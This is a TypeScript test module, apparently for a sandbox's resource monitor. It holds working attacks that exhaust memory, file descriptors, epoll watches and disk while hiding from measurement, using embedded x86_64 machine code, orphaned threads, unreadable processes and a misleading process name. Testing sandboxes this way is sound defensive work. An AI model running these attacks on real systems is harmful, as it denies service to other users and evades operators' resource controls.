/** Attacks that hide from the measurement: of memory, open files, processes and written bytes. */
import { spawn } from 'node:child_process';
import { openSync, readdirSync, readFileSync, statfsSync, writeSync } from 'node:fs';
import koffi from 'koffi';
import { type Attack, type Attempt, sleep } from '../attack.js';
import { call, numberOf } from './system-calls.js';

const MIB = 1024 ** 2;
/** Longer than two checks of the parent's watch. */
const HELD_MS = 3000;
const TMPFS = 0x01021994;
const PR_SET_DUMPABLE = 4;
const THREADS = 100;
const FILES_OF_THREAD = 4000;
/** Made in less than a second, more than any engine needs, and a small part of what the kernel gives a user. */
const MANY_WATCHES = 200_000;

const goal = ({ scene }: Attempt) => 2 * scene.memoryLimit;

async function hold({ scene, reached }: Attempt, what: string, bytes: number): Promise<void> {
  await sleep(HELD_MS);
  if (bytes > 1.5 * scene.memoryLimit) reached(`${Math.round(bytes / MIB)} MiB of ${what}`);
}

/** Runs Perl, and holds what the file `taken` says that it took; the command line has the attack's id. */
async function perl(attempt: Attempt, what: string, script: string, seconds = 1, options: readonly string[] = []) {
  spawn('perl', [...options, '-e', `${script} # ${attempt.scene.id}`], { stdio: 'ignore' }).on('error', () => {});
  await sleep(seconds * 1000);
  await hold(attempt, what, taken());
}

/** Bytes that programs say they have; 0 as long as they have not. */
function taken(): number {
  const files = readdirSync('.').filter(name => name.startsWith('taken'));
  return files.reduce((sum, name) => sum + Number(readFileSync(name)), 0);
}

const states = (bytes: string) => `open F, ">", "taken$$" and print F ${bytes} and close F; sleep 300`;
/** Not a constant, which Perl would make before the program runs. */
const exhaust = (bytes: number) => `$n = ${bytes}; $x = "a" x $n; ${states('length $x')}`;

/** x86_64: a thread with a table of open files of its own, in which it opens eventfds. Called with the end of its stack. */
const THREAD_WITH_FILES = Buffer.from(
  '4889febf000b010031d24531d24531c0b8380000000f0585c07401c341bca00f0000b82201000031ff31f60f0541ffcc75f0b8220000000f05ebf7',
  'hex',
);
const PROT_ALL = 7;
const MAP_PRIVATE_ANONYMOUS = 0x22;

/** Their ids. */
function startThreads(count: number): number[] {
  const code = call('mmap', 0, 4096, PROT_ALL, MAP_PRIVATE_ANONYMOUS, -1, 0).result;
  if (code === -1) return [];
  for (const [i, byte] of THREAD_WITH_FILES.entries()) koffi.encode(BigInt(code + i), 'uint8_t', byte);
  const start = koffi.decode(BigInt(code), koffi.proto('int startThread(int64_t stack)')) as (stack: number) => number;
  const stacks = call('mmap', 0, count * STACK, PROT_ALL, MAP_PRIVATE_ANONYMOUS, -1, 0).result;
  return Array.from({ length: count }, (_, i) => start(stacks + (i + 1) * STACK - 64)).filter(thread => thread > 0);
}

const STACK = 16_384;

/** Bytes that the buffer of a file may hold, as docconv counts them. */
const BUFFER = 212_992;
/** Threads that leave the table of open files of their process, and open as many eventfds each as one table may have. */
const LEAVING_THREADS = `
for (1..20) { threads->create(sub {
  syscall(${numberOf('close_range')}, 100000, -1, 2) == 0 or return;
  for (1..${FILES_OF_THREAD}) { syscall(${numberOf('eventfd2')}, 0, 0) >= 0 and $n += ${BUFFER} }
  open my $f, ">", "taken" . threads->tid; print $f $n; close $f; sleep 300 }) }
sleep 300;`;

/** Watches each of 60 files under each number by each of 60 instances of epoll: numbers are used again, watches stay. */
const WATCHES = `
$event = "\\0" x 16; $n = 0;
@e = map { syscall ${numberOf('epoll_create1')}, 0 } 1..60; @f = map { syscall ${numberOf('eventfd2')}, 0, 0 } 1..60;
for $k (200..4000) { for $f (@f) { syscall ${numberOf('dup3')}, $f, $k, 0;
  for $e (@e) { syscall ${numberOf('epoll_ctl')}, $e, 1, $k, $event or $n++ } } last if $n >= ${MANY_WATCHES} }
${states('$n')}`;

export const UNSEEN_ATTACKS: Record<string, Attack> = {
  'watches of epoll': async attempt => {
    spawn('perl', ['-e', `${WATCHES} # ${attempt.scene.id}`], { stdio: 'ignore' }).on('error', () => {});
    await sleep(2000 + HELD_MS);
    if (taken() >= MANY_WATCHES) attempt.reached(`${taken()} watches of epoll`);
  },
  'memory of a process whose first thread has ended': attempt => {
    const script = `threads->create(sub { sleep 2; ${exhaust(goal(attempt))} }); syscall(${numberOf('exit')}, 0)`;
    return perl(attempt, 'memory', script, 3, ['-Mthreads']);
  },
  'open files of threads with tables of their own': async attempt => {
    if (process.arch !== 'x64') return;
    const threads = startThreads(THREADS);
    await sleep(HELD_MS);
    const files = threads.reduce((sum, thread) => sum + readdirSync(`/proc/self/task/${thread}/fd`).length, 0);
    if (files > FILES_OF_THREAD) attempt.reached(`${files} open files`);
  },
  'open files of threads that leave the table of their process': attempt =>
    perl(attempt, 'buffers of open files', LEAVING_THREADS, 2, ['-Mthreads']),
  'unreadable processes write to the disk': async attempt => {
    call('prctl', PR_SET_DUMPABLE, 0);
    if (statfsSync(process.cwd()).type === TMPFS) return;
    const block = Buffer.alloc(MIB, 1);
    const descriptor = openSync('hidden', 'w');
    let written = 0;
    while (written < goal(attempt)) written += writeSync(descriptor, block);
    await hold(attempt, 'written bytes', written);
  },
  'memory in a process with a misleading name': attempt =>
    perl(attempt, 'memory', `$0 = "x) S 1 1 1 0"; ${exhaust(goal(attempt))}`),
};
